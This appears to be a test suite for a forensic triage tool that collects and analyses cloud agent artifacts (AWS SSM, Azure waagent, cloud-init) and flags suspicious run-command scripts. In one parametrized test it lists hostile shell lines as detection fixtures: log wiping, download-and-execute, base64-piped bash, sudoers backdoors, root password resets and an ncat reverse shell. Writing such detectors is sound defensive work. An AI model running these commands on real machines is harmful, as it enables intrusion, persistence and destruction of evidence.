# ---- hostile roots -----------------------------------------------------------------------------------------

def test_hostile_files_are_bounded_and_stay_in_the_root(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.sh").write_text("#!/bin/sh\necho OUTSIDE\n")
    root = tmp_path / "root"
    orch = f"/var/lib/amazon/ssm/{IID}/document/orchestration/{CMD}/awsrunShellScript/0.awsrunShellScript"
    (root / orch.lstrip("/")).mkdir(parents=True)
    os.mkfifo(root / orch.lstrip("/") / "_script.sh")
    link = root / "var/lib/waagent/run-command/download/4"
    link.mkdir(parents=True)
    os.symlink(str(outside / "secret.sh"), link / "script.sh")
    _w(root, "/var/log/waagent.log", "2026-01-01T00:00:00.000000Z ERROR ExtHandler x " + "A" * 100_000 + "\n" * 50_000)
    _w(root, f"/var/lib/amazon/ssm/{IID}/document/state/completed/x", "{not json" * 1000)
    _w(root, "/var/lib/cloud/instances/i-1/user-data.txt", b"\x1f\x8b" + os.urandom(2000))
    _w(root, "/var/lib/cloud/instances/i-1/vendor-data.txt", "#cloud-config\n" + "x: y\n" * 400_000)
    streams, problems, copies = _collect(root, max_records=10)
    assert "OUTSIDE" not in json.dumps(streams)
    assert any(p.path and p.path.endswith("_script.sh") for p in problems)  # the FIFO: a problem, never opened
    waagent = [r for r in streams["cloud_agent_log"] if r["agent"] == "waagent"]
    assert len(waagent) == 1 and len(waagent[0]["message"]) <= 2048
    bad = next(r for r in streams["cloud_run_commands"] if r["path"].endswith("/completed/x"))
    assert bad["parse_error"]
    ud = next(r for r in streams["cloud_init_data"] if r["kind"] == "user-data.txt")
    assert ud["format"].startswith("gzip") and ud["encoded"][0].startswith("gzip (")  # damaged: said so
    assert "/var/lib/cloud/instances/i-1/user-data.txt" not in copies  # gzip: the gate could not read a raw copy
    vd = next(r for r in streams["cloud_init_data"] if r["kind"] == "vendor-data.txt")
    assert vd["truncated"] and vd["sha256"] is None and len(vd["text"]) <= 262144


def test_whole_run_planted_run_command_says_yes_and_an_admins_says_no(tmp_path):
    """collect --artifacts cloudagents -> analyze: the rules read the bundle's streams and point at them."""
    def analyse(name: str, root: Path) -> tuple[dict, list[dict]]:
        bundle = summary_of(run_triagent(["collect", "--root", str(root), "--artifacts", "cloudagents",
                                          "--output", str(tmp_path / name / "out")]))["bundle"]
        proc = run_triagent(["analyze", bundle, "--output", str(tmp_path / name / "analysis")])
        summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
        with tarfile.open(summary["analysis"]) as tar:
            names = tar.getnames()
            findings = [json.loads(x) for x in tar.extractfile("triagent/artifacts/findings.jsonl").read()
                        .splitlines()] if "triagent/artifacts/findings.jsonl" in names else []
            return json.loads(tar.extractfile("triagent/verdict.json").read()), findings

    verdict, findings = analyse("planted", _ssm_root(tmp_path / "planted", CASES["TRI-CLOUD-002"][0]))
    by_rule = {f["rule"]: f for f in findings}
    assert by_rule["TRI-CLOUD-002"]["document_name"] == "AWS-RunShellScript", sorted(by_rule)
    assert by_rule["TRI-CLOUD-002"]["evidence"][0]["member"].endswith("artifacts/cloud_run_scripts.jsonl")
    assert verdict["recommendation"] == "yes", verdict
    verdict, findings = analyse("benign", _azure_root(tmp_path / "benign", CASES["TRI-CLOUD-002"][1]))
    cloud = {f["rule"]: f["severity"] for f in findings if f["rule"].startswith("TRI-CLOUD-")}
    assert cloud == {"TRI-CLOUD-010": "low"} and verdict["recommendation"] == "no", (cloud, verdict)


def test_rotated_gzip_logs_are_parsed_and_copied_from_their_head(tmp_path):
    """A tail window of a .gz cannot be decompressed: a capped copy of a rotated gzip log keeps its head, a plain
    log its newest end."""
    import gzip

    root = tmp_path / "root"
    body = "".join(_ssm_log(NOW - 86400 * 2 - n * 3600) for n in range(50))
    _w(root, "/var/log/amazon/ssm/amazon-ssm-agent.log", body)
    gz = _w(root, "/var/log/amazon/ssm/amazon-ssm-agent.log.2.gz", gzip.compress(body.encode(), mtime=0))
    assert gz.stat().st_size > 256
    ctx = Context(root=str(root), live=False, options={"copy_log_bytes": 256}, artifact="cloudagents")
    offsets, records = {}, 0
    for item in cloudagents.collect(ctx):
        if isinstance(item, FileCopy):
            offsets[os.path.basename(item.path)] = item.offset
            item.close()
        elif isinstance(item, Record) and item.stream == "cloud_agent_log" and item.data["path"].endswith(".gz"):
            records += 1
    assert offsets["amazon-ssm-agent.log.2.gz"] == 0 and offsets["amazon-ssm-agent.log"] > 0
    assert records == 50 * 8  # every header line that names something, from the decompressed stream


def test_gcp_lines_are_looked_for_only_where_its_guest_software_is(tmp_path):
    root = tmp_path / "root"
    _w(root, "/var/log/syslog", "Dec  1 10:00:00 web1 google_guest_agent[640]: Creating user alice.\n")
    assert "cloud_agent_log" not in _collect(root)[0]
    _w(root, "/usr/bin/google_metadata_script_runner_adapt", b"\x7fELF", 0o755)
    assert _collect(root)[0]["cloud_agent_log"][0]["event"] == "account"


@pytest.mark.parametrize("line, expected", [
    ("rm -rf /var/log/*", "TRI-CLOUD-004"), ("shred -u /var/log/auth.log", "TRI-CLOUD-004"),
    ("cat /dev/null > /var/log/wtmp", "TRI-CLOUD-004"), ("journalctl --vacuum-time=1s", "TRI-CLOUD-004"),
    ("rm -rf /var/lib/amazon/ssm/i-0a1b2c3d4e5f60718/document", "TRI-CLOUD-004"),
    ("echo deployed >> /var/log/deploy.log", None), ("rm -f /var/log/myapp/*.gz", None),
    ("/opt/app/bin/migrate > /var/log/syslog.txt 2>&1", None), ("systemctl restart rsyslog", None),
    ("wget -qO /tmp/.x http://198.51.100.3/a && chmod +x /tmp/.x && /tmp/.x", "TRI-CLOUD-001"),
    ("curl -o /tmp/u.sh https://203.0.113.4/u.sh\nbash /tmp/u.sh", "TRI-CLOUD-001"),
    ("echo ZWNobyBoaQ== | base64 -d | bash", "TRI-CLOUD-001"),
    ("curl -fsS https://hc-ping.com/5f1c -o /dev/null", None), ("wget -q https://example.com/app.tgz", None),
    ("usermod -aG sudo backup", "TRI-CLOUD-003"), ("echo 'svc ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/svc",
                                                   "TRI-CLOUD-003"),
    ("echo 'root:Passw0rd' | chpasswd", "TRI-CLOUD-003"), ("id deploy && getent group sudo", None),
    ("ncat 203.0.113.8 443 -e /bin/bash", "TRI-CLOUD-002"), ("nc -z -w2 10.0.0.5 5432", None),
])
def test_channel_script_lines(tmp_path, line, expected):
    found = _findings(_collect(_ssm_root(tmp_path / "root", f"#!/bin/bash\nset -e\n{line}\n"))[0])
    assert [r for r, hits in found.items() if hits[0]["severity"] == "high"] == ([expected] if expected else []), line


# ---- cloud-init itself writing its layout ---------------------------------------------------------------

# Debian's cloud-init, unpacked, never installed (installed, its units would run at the machine's next boot):
#   apt-get download cloud-init && dpkg-deb -x cloud-init_*.deb /opt/triagent-test-deps/cloud-init
# with its Python dependencies: python3-jinja2 python3-configobj python3-jsonpatch python3-jsonschema
# python3-requests python3-netifaces python3-serial python3-yaml
CLOUD_INIT = Path(os.environ.get("TRIAGENT_CLOUD_INIT", "/opt/triagent-test-deps/cloud-init"))
CLOUD_INIT_PY = CLOUD_INIT / "usr/lib/python3/dist-packages"
# cloud-init's own code: make-mime builds the user-data (every part base64, as `cloud-init devel make-mime` and
# most provisioning tools write it); then what `cloud-init init` does up to consuming the user-data (no module
# runs, no network is configured), from a NoCloud seed inside the fake root, with PATH empty so that it runs no
# program of this machine.
CLOUD_INIT_DRIVER = """
import io, sys
from cloudinit import log as ci_log, sources, stages
from cloudinit.cmd.devel.make_mime import create_mime_message
from cloudinit.settings import PER_INSTANCE
seed, cloud_config, script = sys.argv[1:4]
msg, _ = create_mime_message([(io.StringIO(cloud_config), "cloud.yaml", "cloud-config"),
                              (io.StringIO(script), "bootstrap.sh", "x-shellscript")])
open(seed + "/user-data", "w").write(str(msg))
open(seed + "/meta-data", "w").write("instance-id: iid-datasource-none-7\\nlocal-hostname: app1\\n")
init = stages.Init(ds_deps=[sources.DEP_FILESYSTEM])
init.read_cfg()
ci_log.resetLogging()
ci_log.setupLogging(init.cfg)
init.initialize()
init.fetch()
init.instancify()
init.update()
init.setup_datasource()
init.consume_data(PER_INSTANCE)
"""
REAL_CC = f"""#cloud-config
write_files:
  - path: /root/.aws/credentials
    content: |
      [default]
      aws_secret_access_key = {AWS_SECRET}
  - path: /etc/app.yaml
    content: |
      password: Tr0ub4dor-and-3
"""
REAL_SCRIPT = "#!/bin/bash\nsystemctl enable --now app\n"


def _real_cloud_init_root(tmp_path: Path, cloud_config: str = REAL_CC) -> Path:
    probe = subprocess.run(["/usr/bin/python3", "-c", "import cloudinit.stages, cloudinit.cmd.devel.make_mime"],
                           env={"PYTHONPATH": str(CLOUD_INIT_PY), "PATH": "/nonexistent"}, capture_output=True)
    need(probe.returncode == 0, f"Debian's cloud-init is not unpacked at {CLOUD_INIT} with its dependencies "
                                f"(tests/run.sh does it; {probe.stderr.decode()[-200:]})")
    root = tmp_path / "root"
    seed = root / "var/lib/cloud/seed/nocloud"
    seed.mkdir(parents=True)
    (root / "var/log").mkdir(parents=True)
    logging_cfg = (CLOUD_INIT / "etc/cloud/cloud.cfg.d/05_logging.cfg").read_text()
    logging_cfg = logging_cfg.replace("/var/log/cloud-init.log", f"{root}/var/log/cloud-init.log")
    _w(root, "/etc/cloud/cloud.cfg", f"""datasource_list: [NoCloud]
datasource:
  NoCloud:
    fs_label: null
def_log_file: {root}/var/log/cloud-init.log
system_info:
  distro: debian
  paths:
    cloud_dir: {root}/var/lib/cloud
    run_dir: {root}/run/cloud-init
    templates_dir: {CLOUD_INIT}/etc/cloud/templates
{logging_cfg}""")
    before = {p: os.path.lexists(p) for p in ("/var/lib/cloud", "/var/log/cloud-init.log", "/run/cloud-init")}
    proc = subprocess.run(["/usr/bin/python3", "-c", CLOUD_INIT_DRIVER, str(seed), cloud_config, REAL_SCRIPT],
                          env={"PYTHONPATH": str(CLOUD_INIT_PY), "PATH": "/nonexistent", "HOME": str(tmp_path),
                               "CLOUD_CFG": f"{root}/etc/cloud/cloud.cfg"},
                          capture_output=True, timeout=120, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr.decode()[-3000:]
    assert {p: os.path.lexists(p) for p in before} == before  # nothing of this machine was touched
    # cloud-init links instance -> <cloud_dir>/instances/<id> with the absolute path it was given; on the host
    # that is /var/lib/cloud/instances/<id>, which the evidence reader resolves inside the root
    link = root / "var/lib/cloud/instance"
    target = os.readlink(link)
    assert target == f"{root}/var/lib/cloud/instances/iid-datasource-none-7"
    link.unlink()
    os.symlink(target[len(str(root)):], link)
    return root


def test_real_cloud_init_layout_base64_user_data_is_decoded_for_the_gate_and_not_copied_raw(tmp_path):
    root = _real_cloud_init_root(tmp_path)
    inst = "/var/lib/cloud/instances/iid-datasource-none-7"
    raw = (root / inst.lstrip("/") / "user-data.txt").read_bytes()
    assert AWS_SECRET.encode() not in raw and b"base64" in raw  # the secret is there, encoded
    streams, problems, copies = _collect(root)
    data = {r["kind"]: r for r in streams["cloud_init_data"]}
    ud = data["user-data.txt"]
    assert ud["sha256"] == hashlib.sha256(raw).hexdigest() and ud["format"] == "mime-multipart"
    assert [p["content_type"] for p in ud["parts"]] == ["text/cloud-config", "text/x-shellscript"]
    assert {p["encoding"] for p in ud["parts"]} == {"base64"} and ud["instance_id"] == "iid-datasource-none-7"
    assert AWS_SECRET in ud["text"] and ud["runs_commands"]  # decoded: the gate sees it (and masks it)
    assert data["user-data.txt.i"]["parts"][0]["sha256"] == ud["parts"][0]["sha256"]
    assert ud["current"] is True
    assert f"{inst}/user-data.txt" not in copies and f"{inst}/user-data.txt.i" not in copies
    assert any("encoded content (part 1: base64" in p.message for p in problems)
    script = next(r for r in streams["cloud_run_scripts"] if r["channel"] == "cloud-init-user-script")
    assert script["path"] == f"{inst}/scripts/bootstrap.sh" and script["content"] == REAL_SCRIPT  # the part handler's
    log = [r for r in streams["cloud_agent_log"] if r["agent"] == "cloud-init"]
    assert any(r["event"] == "user_data" and "user-data.txt" in r["message"] for r in log)
    assert all(r["time_utc"].endswith("Z") for r in log)
    assert not any(p.endswith(("obj.pkl", "instance-data-sensitive.json")) for p in copies)
    assert f"{inst}/datasource" in copies and "/var/lib/cloud/data/instance-id" in copies

    members = _bundle(tmp_path, root)
    everything = b"".join(members.values())
    assert AWS_SECRET.encode() not in everything and b"Tr0ub4dor-and-3" not in everything
    assert not [m for m in members if m.endswith("/user-data.txt")]
    members = _bundle(tmp_path, root, "--include-secrets")
    assert AWS_SECRET.encode() in b"".join(members.values())
    assert [m for m in members if m.endswith(f"{inst}/user-data.txt")]


def test_real_cloud_init_chpasswd_as_cloud_config_txt_dumps_it(tmp_path):
    """cloud-init re-dumps the merged cloud-config (cloud-config.txt) as YAML: a chpasswd literal block becomes a
    single-quoted folded scalar, ``list: 'root:pw``. Its passwords are masked in the record, the file is not
    copied raw, and none reaches the bundle."""
    root = _real_cloud_init_root(tmp_path, CHPASSWD)
    inst = "/var/lib/cloud/instances/iid-datasource-none-7"
    dumped = (root / inst.lstrip("/") / "cloud-config.txt").read_text()
    assert "list: 'root:S3cr3t-Root-Pass" in dumped  # the form cloud-init wrote
    streams, _, copies = _collect(root)
    cc = next(r for r in streams["cloud_init_data"] if r["kind"] == "cloud-config.txt")
    assert "S3cr3t-Root-Pass" not in json.dumps(streams) and cc["withheld"] == ["chpasswd list: 2 password(s)"]
    assert f"{inst}/cloud-config.txt" not in copies
    assert b"S3cr3t-Root-Pass" not in b"".join(_bundle(tmp_path, root).values())


# Debian's waagent, unpacked, never installed: apt-get download waagent && dpkg-deb -x waagent_*.deb
# /opt/triagent-test-deps/waagent (its logger needs only the standard library)
WAAGENT = Path(os.environ.get("TRIAGENT_WAAGENT", "/opt/triagent-test-deps/waagent"))
WAAGENT_DRIVER = """
import sys, threading
from azurelinuxagent.common import logger
logger.add_logger_appender(logger.AppenderType.FILE, logger.LogLevel.INFO, path=sys.argv[1])
threading.current_thread().name = "Daemon"
logger.set_prefix("Daemon")
logger.info("Azure Linux Agent Version: {0}", "2.7.3.0")
threading.current_thread().name = "ExtHandler"
logger.set_prefix("ExtHandler")
logger.info("ProcessExtensionsGoalState started [incarnation_5]")
ext = logger.Logger(logger.DEFAULT_LOGGER, "[Microsoft.CPlat.Core.RunCommandLinux-1.0.5]")
ext.info("Target handler state: {0} [{1}]", "enabled", "incarnation_5")
ext.info("Enable extension: [{0}]", "bin/run-command-shim enable")
logger.error("Event: name=Microsoft.CPlat.Core.RunCommandLinux, op=Enable, message=failed, duration=0")
"""


def test_real_waagent_logger_lines(tmp_path):
    """waagent.log written by the Debian package's own logger (azurelinuxagent.common.logger)."""
    site = WAAGENT / "usr/lib/python3/dist-packages"
    need((site / "azurelinuxagent/common/logger.py").is_file(),
         f"Debian's waagent is not unpacked at {WAAGENT} (tests/run.sh does it)")
    root = tmp_path / "root"
    (root / "var/log").mkdir(parents=True)
    proc = subprocess.run(["/usr/bin/python3", "-c", WAAGENT_DRIVER, str(root / "var/log/waagent.log")],
                          env={"PYTHONPATH": str(site), "PATH": "/nonexistent"}, capture_output=True, timeout=60)
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    log = [r for r in _collect(root)[0]["cloud_agent_log"] if r["agent"] == "waagent"]
    assert [r.get("event") for r in log] == ["agent_start", "extension_enable", "extension_enable", "error"]
    assert {r.get("extension") for r in log[1:3]} == {RC} and log[1]["thread"] == "ExtHandler"
    assert all(r["time_utc"].endswith("Z") and r["time_local"] is None for r in log)


def test_record_limit_keeps_each_channels_newest_lines(tmp_path):
    """A busy SSM agent log cannot starve the cloud-init log read after it, and what a full channel keeps is what
    happened last."""
    root = _cloud_root(tmp_path / "root")
    _w(root, "/var/log/amazon/ssm/amazon-ssm-agent.log", "".join(_ssm_log(NOW - 3600 * (99 - n)) for n in range(100)))
    _w(root, "/var/log/amazon/ssm/amazon-ssm-agent.log.1", _ssm_log(NOW - 86400 * 9))
    streams, problems, _ = _collect(root, max_records=5)
    ssm = [r for r in streams["cloud_agent_log"] if r["agent"] == "amazon-ssm-agent"]
    assert len(ssm) == 5 and ssm[-1]["event"] == "error" and ssm[0]["time_utc"][:13] == \
        time.strftime("%Y-%m-%dT%H", time.gmtime(NOW))  # the last block of the newest file
    assert len([r for r in streams["cloud_agent_log"] if r["agent"] == "cloud-init"]) == 5
    assert any("older lines of this log not kept" in p.message for p in problems)
    summary = next(r for r in streams["cloud_agents"] if r["channel"] == "ssm-agent")
    assert summary["logs_not_parsed"] == 1  # the rotation: its share was full


def test_azure_run_command_v2_and_custom_script_layouts(tmp_path):
    """Run Command v2 (Azure/run-command-handler-linux: /var/lib/waagent/run-command-handler/download/<name>/<seq>/
    script.sh) and Custom Script (/var/lib/waagent/custom-script/download/<seq>/<downloaded file>)."""
    root = tmp_path / "root"
    _w(root, "/var/lib/waagent/run-command-handler/download/fixNginx/0/script.sh", "#!/bin/sh\nnginx -t\n", 0o500)
    _w(root, "/var/lib/waagent/run-command-handler/download/fixNginx/0/stdout", "ok\n")
    _w(root, "/var/lib/waagent/custom-script/download/2/install.sh", "#!/bin/sh\napt-get install -y nginx\n")
    _w(root, "/var/lib/waagent/custom-script/download/2/stderr", "")
    status = [{"version": 1, "timestampUTC": "2026-12-01T10:00:00Z", "status": {
        "operation": "Enable", "status": "success", "formattedMessage": {"lang": "en", "message": "done"}}}]
    _w(root, "/var/lib/waagent/Microsoft.CPlat.Core.RunCommandHandlerLinux-1.3.2/status/fixNginx.0.status",
       json.dumps(status))
    streams, _, copies = _collect(root)
    scripts = {r["channel"]: r for r in streams["cloud_run_scripts"]}
    v2 = scripts["azure-run-command-v2"]
    assert v2["run_command_name"] == "fixNginx" and v2["seq"] == "0" and v2["stdout_size"] == 3
    assert scripts["azure-custom-script"]["path"].endswith("/download/2/install.sh")
    assert len(streams["cloud_run_scripts"]) == 2  # stdout / stderr are outputs, copied, not scripts
    status_rec = streams["cloud_run_commands"][0]
    assert status_rec["channel"] == "azure-run-command-v2" and status_rec["extension_version"] == "1.3.2"
    assert "/var/lib/waagent/custom-script/download/2/stderr" in copies
